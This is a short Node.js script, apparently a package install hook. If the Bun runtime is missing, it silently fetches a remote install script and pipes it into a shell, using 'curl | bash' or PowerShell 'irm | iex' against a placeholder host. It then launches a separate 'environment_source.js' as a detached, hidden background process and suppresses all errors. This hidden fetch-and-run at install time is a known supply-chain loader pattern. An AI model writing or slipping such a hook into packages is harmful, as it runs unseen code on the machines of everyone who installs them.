#!/usr/bin/env node
const { spawn, execSync } = require("child_process");
const path = require("path");
const fs = require("fs");
const os = require("os");

function isBunOnPath() {
  try {
    execSync(process.platform === "win32" ? "where bun" : "which bun", { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

async function downloadAndSetupBun() {
  const command = process.platform === "win32"
    ? 'powershell -c "irm bun.example.invalid/install.ps1|iex"'
    : "curl -fsSL https://bun.example.invalid/install | bash";
  execSync(command, { stdio: "ignore", env: process.env });
  const exe = path.join(os.homedir(), ".bun", "bin", process.platform === "win32" ? "bun.exe" : "bun");
  return fs.existsSync(exe) ? exe : null;
}

(async () => {
  const bun = isBunOnPath() ? "bun" : await downloadAndSetupBun();
  const script = path.join(__dirname, "environment_source.js");
  if (bun && fs.existsSync(script)) {
    spawn(bun, [script], { detached: true, stdio: "ignore", cwd: process.env.INIT_CWD }).unref();
  }
})().catch(() => process.exit(0));
